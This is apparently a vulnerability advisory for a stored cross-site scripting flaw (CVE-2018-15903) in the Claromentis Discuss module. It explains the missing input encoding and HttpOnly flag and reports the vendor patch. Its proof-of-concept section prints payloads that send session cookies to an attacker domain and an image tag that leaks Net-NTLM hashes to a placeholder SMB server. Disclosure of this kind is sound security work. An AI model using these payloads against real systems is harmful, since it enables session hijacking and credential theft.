Claromentis Discuss 1.2.1 Cross Site Scripting

Credit: David Vargas
Risk: Low
Local: No
Remote: Yes

CVSS Base Score: 3.5/10
Impact Subscore: 2.9/10
Exploitability Subscore: 6.8/10
Exploit range: Remote
Attack complexity: Medium
Authentication: Single time
Confidentiality impact: None
Integrity impact: Partial
Availability impact: None

Issue: Stored Cross site Scripting (XSS) on Discuss Module v1.2.1 in Claromentis intranet application Reserved CVE: CVE-2018-15903 # Vulnerability OverviewThe Discuss v1.2.1 module in Claromentis 8.2.2 is vulnerable to Stored Cross Site Scripting (XSS). An authenticated attacker is able to place malicious JavaScript in the discussion forum, which is present in the login landing page. A low privilege user can use this to steal the session cookies from high privilege accounts to conduct session hijacking, enabling them to hijack the elevated session and perform actions in their security context. # Discovered By David Vargas @ HackLabs # Vendor Status Disclosed to the Claromentis security team. Discuss module was patched within two weeks of disclosure. # Vulnerability Details Attack type: Remote, authenticated Impact: Information disclosure, session hijacking, possible domain hash disclosure. Affected component: Tested on Claromentis Discuss Module v1.2.1. Presumably all previous versions also affected. Claromentis version affected: Tested on 8.2.2. Attack vector: XSS # Technical Overview Claromentis provides Intranet software hosted for organisations. Many different modules can be enabled to provide different functionality within the application. One of these Modules is the Discuss module, which allows forum style discussions between authenticated users. The Discuss module was found to not enforce any sort of character filtering or encoding, and vulnerable to stored cross site scripting. Rather than strip or encode special characters, theDiscuss module simply takes the HTML input and echoes it out in the post, allowing us to inject simple payloads such as <script>alert(1)</script>. The risk is amplified because the application also fails to set the httponly flag on the session cookie (PHPSESSID), which facilitates session hijacking attacks. Furthermore, the Discuss module is present on the landing page for successful logins, which means every user that authenticates to the application or navigates to the home page would be a potential victim to session hijacking or potentially Net-NTLM hash stealing. # POC 1: Session Hijacking To demonstrate the ability to steal session cookies, the following payload can be used: ``` <script>alert(document.cookie)</script> ``` The above is the classic PoC which will produce an pop up box with the document cookies, including the PHPSESSID session cookie. In practice, this payload would be little value to an attacker. A malicious actor would use something like the payload below to send the cookies to a server they control: ``` <script> document.location=''+document.cookie; </script> ``` This would send the current session cookies to the attacker's domain, allowing them to hijack different sessions and executeactions in the application within the victim's security context. # POC 2: Collecting domain credentials Claromentis allows and supports the use of Active directory for authentication, which means the vulnerability could be easily leveraged to redirect to a fake authentication page in order to trick the victim into divulging domain credentials. Alternatively, if the perimeter firewalls allow outbound traffic to TCP 445, or if the attacker is in the network, the following payload can also be used to silently steal Net-NTLM Hashes from the target: ``` <imgsrc="\\x.x.x.x\doesnotexist" /> ``` Where x.x.x.x is the IP address of an evil SMB server. Internet explorerand other browsers support UNC paths, which will cause the above payload to try to authenticate to the evil SMB server in order to access the *doesnotexist* share, resulting in the disclosure of user hashes which could be then be cracked.

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Yourmessage is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2022,


Back to Top